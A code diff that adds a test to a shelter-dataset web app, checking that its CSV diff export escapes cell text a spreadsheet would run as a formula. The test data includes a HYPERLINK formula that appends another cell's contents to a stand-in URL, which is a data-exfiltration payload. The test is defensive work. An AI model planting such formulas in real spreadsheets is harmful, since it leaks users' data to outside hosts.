@@ -122,6 +122,18 @@ def test_the_diff_downloads_as_csv_with_bom_and_as_json(client, shelters, make_u
     assert AuditEntry.objects.filter(action="history.diff.download").count() == 2
 
 
+def test_the_diff_csv_quotes_text_that_a_spreadsheet_would_run_as_a_formula(
+    client, shelters, make_user, owner
+):
+    set_cell(shelters, 1, "名称", '=HYPERLINK("http://x"&B2,"詳細")')
+    set_cell(shelters, 3, "定員", -5)
+    login(client, make_user, owner)
+    response = client.get("/datasets/shelters/diff.csv", {"from": 3, "to": 5})
+    lines = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
+    assert 'changed,1,1,名称,池尻小学校,"\'=HYPERLINK(""http://x""&B2,""詳細"")"' in lines
+    assert "changed,3,3,定員,50,-5" in lines  # a number is never quoted
+
+
 def test_the_record_history_tells_who_changed_what_when(client, shelters, make_user, owner):
     login(client, make_user, owner)
     page = client.get("/datasets/shelters/rows/1/history").content.decode()
